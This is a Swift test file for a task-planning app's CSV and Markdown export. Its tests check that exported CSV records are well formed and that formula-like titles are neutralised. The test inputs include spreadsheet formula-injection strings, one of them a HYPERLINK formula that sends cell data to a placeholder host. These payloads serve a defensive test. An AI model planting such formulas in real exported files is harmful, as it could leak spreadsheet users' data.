import FocusDomain
import Testing

@testable import FocusFormats

@Suite("Tables and pages")
struct TableTests {
  /// Parses RFC 4180 strictly.
  private func records(_ text: String) throws -> [[String]] {
    var records: [[String]] = [[]]
    var rest = text.unicodeScalars[...]
    while !rest.isEmpty {
      var value = String.UnicodeScalarView()
      if rest.first == "\"" {
        rest.removeFirst()
        while let scalar = rest.popFirst() {
          if scalar != "\"" {
            value.append(scalar)
          } else if rest.first == "\"" {
            value.append("\"")
            rest.removeFirst()
          } else {
            break
          }
        }
      } else {
        while let scalar = rest.first, scalar != ",", scalar != "\r" {
          #expect(scalar != "\"")
          value.append(scalar)
          rest.removeFirst()
        }
      }
      records[records.count - 1].append(String(value))
      if rest.popFirst() == "\r" {
        #expect(rest.popFirst() == "\n")
        records.append([])
      }
    }
    #expect(records.last == [])
    return records.dropLast()
  }

  @Test(arguments: [
    "=1+1", "+1", "-1", "@SUM(A1)", " =1+1", "\u{3000}=1", "\u{FF1D}1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}x",
    "=HYPERLINK(\"http://example.org?\"&A1,\"x, y\")",
  ])
  func noCellIsAFormula(_ title: String) throws {
    let task = FocusTask(id: .random(), title: title, createdAt: Instant(seconds: 0))
    let day = try #require(CivilDate("2026-11-21"))
    let record = try records(ExportFormat.csv.text([DayPlan(day: day, entries: [task])]))[1]
    #expect(record[2] == "'\(title)")
    #expect(record.allSatisfy { !["=", "+", "-", "@"].contains($0.first) })
  }

  @Test(arguments: 0..<200)
  func everyTaskIsOneRecord(_ seed: UInt64) throws {
    var random = SeededGenerator(seed: seed)
    let plans = random.plans()
    let records = try records(ExportFormat.csv.text(plans))
    let names = try #require(records.first)
    #expect(records.allSatisfy { $0.count == names.count })
    let tasks = plans.flatMap { plan in plan.tasks.map { (plan, $0) } }
    #expect(records.count == tasks.count + 1)
    for (record, (plan, task)) in zip(records.dropFirst(), tasks) {
      let fields = Dictionary(uniqueKeysWithValues: zip(names, record))
      #expect([task.title, "'\(task.title)"].contains(fields["title"]))
      #expect(fields["id"] == task.id.description)
      #expect(fields["day"] == plan.day.description)
      #expect(fields["priority"] == task.priority.rawValue)
      #expect(fields["state"] == plan.state(of: task.id)?.rawValue)
      #expect(fields["end"] == task.schedule.range?.end.description ?? "")
      #expect(fields["completed_at"] == task.completedAt?.description ?? "")
    }
  }

  /// Adds a backslash before possible markup, and changes nothing else.
  @Test(arguments: 0..<200)
  func titlesAreEscaped(_ seed: UInt64) {
    var random = SeededGenerator(seed: seed)
    let title = random.title()
    let escaped = Markdown.escaped(title)
    var plain = String.UnicodeScalarView()
    var scalars = escaped.unicodeScalars.makeIterator()
    while let scalar = scalars.next() {
      #expect(!"`*_{}[]<>#|~&$!".unicodeScalars.contains(scalar))
      plain.append(scalar == "\\" ? scalars.next() ?? scalar : scalar)
    }
    #expect(String(plain).unicodeScalars.elementsEqual(title.unicodeScalars))
  }
}
